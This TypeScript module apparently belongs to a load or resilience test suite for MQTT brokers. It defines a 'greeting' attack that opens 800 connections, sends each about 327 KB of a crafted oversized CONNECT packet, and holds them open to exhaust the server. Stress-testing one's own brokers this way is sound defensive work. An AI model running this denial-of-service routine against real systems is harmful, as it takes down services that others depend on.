/** Connections that send almost all of the largest CONNECT there can be, and then nothing. */
import { delay } from "../../lib/cli/load/run.ts";
import { writeAll } from "../../lib/io.ts";
import type { ByteStream } from "../../lib/net/stream.ts";
import type { Attack } from "./attack.ts";

const CONNECTIONS = 800;
const BYTES = 327_000;
const LASTS_MS = 3000;

export const greeting: Attack = {
  name: "greeting",
  what: `${CONNECTIONS} connections that send ${BYTES / 1000} KB of a CONNECT and wait`,
  mosquitto: "",
  async run({ target, signal }) {
    const head = Uint8Array.of(0x10, 0xf4, 0xff, 0x13, 0, 4, 0x4d, 0x51, 0x54, 0x54, 4, 2, 0, 0);
    const bytes = new Uint8Array(BYTES);
    bytes.set(head);
    const open: ByteStream[] = [];
    let sent = 0;
    for (let i = 0; i < CONNECTIONS && !signal.aborted; i++) {
      const one = await target.dial();
      open.push(one);
      await Promise.race([writeAll(one, bytes).then(() => sent++, () => {}), delay(200)]);
    }
    await delay(LASTS_MS);
    for (const one of open) one.close();
    return { "sent whole": sent };
  },
};
